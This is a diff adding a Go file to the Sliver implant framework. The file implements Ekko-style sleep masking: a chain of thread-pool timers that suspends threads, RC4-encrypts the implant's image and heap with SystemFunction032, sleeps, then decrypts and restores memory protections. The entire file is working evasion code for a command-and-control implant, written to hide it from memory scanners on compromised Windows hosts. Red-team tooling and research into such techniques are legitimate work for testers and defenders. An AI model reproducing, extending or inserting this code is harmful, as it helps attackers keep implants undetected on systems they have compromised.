@@ -0,0 +1,250 @@
+package sleepmask
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"crypto/rand"
+	"time"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	wtExecuteInTimerThread = 0x20
+
+	// maxSteps - The gate, the image's protection, encrypting, the sleep,
+	// decrypting, restoring the image's protection, resuming and waking up
+	maxSteps = 1 + 1 + maxRegions + 1 + maxRegions + maxImageRegions + maxThreads + 1
+)
+
+var (
+	kernel32 = windows.NewLazySystemDLL("kernel32.dll")
+	ntdll    = windows.NewLazySystemDLL("ntdll.dll")
+	advapi32 = windows.NewLazySystemDLL("advapi32.dll")
+
+	procVirtualProtect      = kernel32.NewProc("VirtualProtect")
+	procWaitForSingleObject = kernel32.NewProc("WaitForSingleObject")
+	procSetEvent            = kernel32.NewProc("SetEvent")
+	procResumeThread        = kernel32.NewProc("ResumeThread")
+	procRtlCaptureContext   = ntdll.NewProc("RtlCaptureContext")
+	procNtContinue          = ntdll.NewProc("NtContinue")
+	procSystemFunction032   = advapi32.NewProc("SystemFunction032")
+)
+
+// ustring - A buffer SystemFunction032 encrypts in place with rc4, or its key
+type ustring struct {
+	Length        uint32
+	MaximumLength uint32
+	Buffer        uintptr
+}
+
+// chain - Everything the timer chain reads and writes, allocated outside of the go
+// heap and the image since those are what it encrypts
+type chain struct {
+	captured   syscalls.CONTEXT
+	steps      [maxSteps]syscalls.CONTEXT
+	buffers    [maxRegions]ustring
+	key        ustring
+	keyData    [16]byte
+	oldProtect uint32
+}
+
+// mask - Ekko style sleep: each step of the chain is a timer in the thread pool's
+// timer thread that restores a context (NtContinue) calling one function. The
+// timers run one after the other once the gate step is released, the thread that
+// sleeps signals the gate and waits for the last step in one call so it never
+// runs while its code or stack are encrypted. The chain resumes the suspended
+// threads itself, if the world is stopped when this thread wakes up it would
+// otherwise deadlock
+func mask(duration time.Duration, image bool) error {
+	started := time.Now()
+	for _, proc := range []*windows.LazyProc{procVirtualProtect, procWaitForSingleObject, procSetEvent,
+		procResumeThread, procRtlCaptureContext, procNtContinue, procSystemFunction032} {
+		if err := proc.Find(); err != nil {
+			return err
+		}
+	}
+	heapProbe = make([]byte, 64)
+	sections := make([]region, 0, maxImageRegions)
+	regions := make([]region, 0, maxRegions)
+	suspended := &threads{}
+	imageBase, imageSize, sections, err := imageRange(sections)
+	if err != nil {
+		return err
+	}
+
+	address, err := windows.VirtualAlloc(0, unsafe.Sizeof(chain{}), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
+	if err != nil {
+		return err
+	}
+	defer windows.VirtualFree(address, 0, windows.MEM_RELEASE)
+	memory := (*chain)(*(*unsafe.Pointer)(unsafe.Pointer(&address)))
+	if _, err := rand.Read(memory.keyData[:]); err != nil {
+		return err
+	}
+	defer func() {
+		memory.keyData = [16]byte{}
+	}()
+	memory.key = ustring{Length: 16, MaximumLength: 16, Buffer: uintptr(unsafe.Pointer(&memory.keyData[0]))}
+
+	start, err := windows.CreateEvent(nil, 0, 0, nil)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(start)
+	done, err := windows.CreateEvent(nil, 0, 0, nil)
+	if err != nil {
+		return err
+	}
+	defer windows.CloseHandle(done)
+	queue, err := syscalls.CreateTimerQueue()
+	if err != nil {
+		return err
+	}
+	defer syscalls.DeleteTimerQueueEx(queue, windows.InvalidHandle)
+
+	// Capture the timer thread's context, each step starts from it
+	var timer windows.Handle
+	err = syscalls.CreateTimerQueueTimer(&timer, queue, procRtlCaptureContext.Addr(), uintptr(unsafe.Pointer(&memory.captured)), 0, 0, wtExecuteInTimerThread)
+	if err != nil {
+		return err
+	}
+	windows.WaitForSingleObject(done, 50)
+	if memory.captured.Rip == 0 {
+		return errUnsupported
+	}
+
+	// Every step is a no-op until the threads are suspended, the timers are created
+	// first since they're allocated on the process heap whose lock a suspended
+	// thread could hold
+	memory.step(0, procWaitForSingleObject.Addr(), uintptr(start), uintptr(windows.INFINITE), 0, 0)
+	for index := 1; index < maxSteps; index++ {
+		memory.step(index, procSetEvent.Addr(), uintptr(start), 0, 0, 0)
+	}
+	memory.step(maxSteps-1, procSetEvent.Addr(), uintptr(done), 0, 0, 0)
+	for index := 0; index < maxSteps; index++ {
+		err = syscalls.CreateTimerQueueTimer(&timer, queue, procNtContinue.Addr(), uintptr(unsafe.Pointer(&memory.steps[index])), uint32(index), 0, wtExecuteInTimerThread)
+		if err != nil {
+			windows.SetEvent(start)
+			windows.WaitForSingleObject(done, windows.INFINITE)
+			return err
+		}
+	}
+
+	if image {
+		regions = append(regions, region{base: imageBase, size: imageSize})
+	}
+
+	// Nothing is allocated from here on until the threads are resumed
+	err = suspendThreads(suspended, imageBase, imageSize)
+	if err != nil {
+		suspended.resume()
+		windows.SetEvent(start)
+		windows.WaitForSingleObject(done, windows.INFINITE)
+		return err
+	}
+	// The heap is only walked now, the scavenger may have released some of it
+	regions = heapRegions(regions)
+	memory.build(image, imageBase, imageSize, sections, regions, suspended, time.Until(started.Add(duration)))
+	// {{if .Config.Debug}}
+	encrypted, paused := len(regions), suspended.count
+	// {{end}}
+	_, err = syscalls.SignalObjectAndWait(start, done, windows.INFINITE, false)
+	if err != nil {
+		memory.disarm(suspended)
+		windows.SetEvent(start)
+		windows.WaitForSingleObject(done, windows.INFINITE)
+		suspended.close()
+		return err
+	}
+	suspended.close()
+	// {{if .Config.Debug}}
+	log.Printf("[sleepmask] slept %s with %d region(s) encrypted and %d thread(s) suspended", time.Since(started), encrypted, paused)
+	// {{end}}
+	return nil
+}
+
+// build - The steps between the gate and waking up
+func (memory *chain) build(image bool, imageBase uintptr, imageSize uintptr, sections []region, regions []region, suspended *threads, duration time.Duration) {
+	index := 1
+	oldProtect := uintptr(unsafe.Pointer(&memory.oldProtect))
+	key := uintptr(unsafe.Pointer(&memory.key))
+	if image {
+		memory.step(index, procVirtualProtect.Addr(), imageBase, imageSize, windows.PAGE_READWRITE, oldProtect)
+		index++
+	}
+	for i, region := range regions {
+		memory.buffers[i] = ustring{Length: uint32(region.size), MaximumLength: uint32(region.size), Buffer: region.base}
+		memory.step(index, procSystemFunction032.Addr(), uintptr(unsafe.Pointer(&memory.buffers[i])), key, 0, 0)
+		index++
+	}
+	milliseconds := duration.Milliseconds()
+	if milliseconds < 0 {
+		milliseconds = 0
+	}
+	if windows.INFINITE <= milliseconds {
+		milliseconds = windows.INFINITE - 1
+	}
+	memory.step(index, procWaitForSingleObject.Addr(), uintptr(windows.CurrentProcess()), uintptr(milliseconds), 0, 0)
+	index++
+	for i := range regions {
+		memory.step(index, procSystemFunction032.Addr(), uintptr(unsafe.Pointer(&memory.buffers[i])), key, 0, 0)
+		index++
+	}
+	if image {
+		for _, section := range sections {
+			memory.step(index, procVirtualProtect.Addr(), section.base, section.size, uintptr(section.protect), oldProtect)
+			index++
+		}
+	}
+	for i := 0; i < suspended.count; i++ {
+		memory.step(index, procResumeThread.Addr(), uintptr(suspended.handles[i]), 0, 0, 0)
+		index++
+	}
+}
+
+// disarm - Only resume the threads and wake up, for when the sleeping thread
+// couldn't signal the gate and wait in one call
+func (memory *chain) disarm(suspended *threads) {
+	for index := 1; index < maxSteps-1; index++ {
+		memory.step(index, procSetEvent.Addr(), uintptr(memory.steps[0].Rcx), 0, 0, 0)
+	}
+	for i := 0; i < suspended.count; i++ {
+		memory.step(1+i, procResumeThread.Addr(), uintptr(suspended.handles[i]), 0, 0, 0)
+	}
+}
+
+// step - Point a step at a function, it returns to the timer thread's caller of
+// the callback just like the capture did
+func (memory *chain) step(index int, function uintptr, arg1 uintptr, arg2 uintptr, arg3 uintptr, arg4 uintptr) {
+	context := &memory.steps[index]
+	*context = memory.captured
+	context.Rsp -= 8
+	context.Rip = uint64(function)
+	context.Rcx = uint64(arg1)
+	context.Rdx = uint64(arg2)
+	context.R8 = uint64(arg3)
+	context.R9 = uint64(arg4)
+}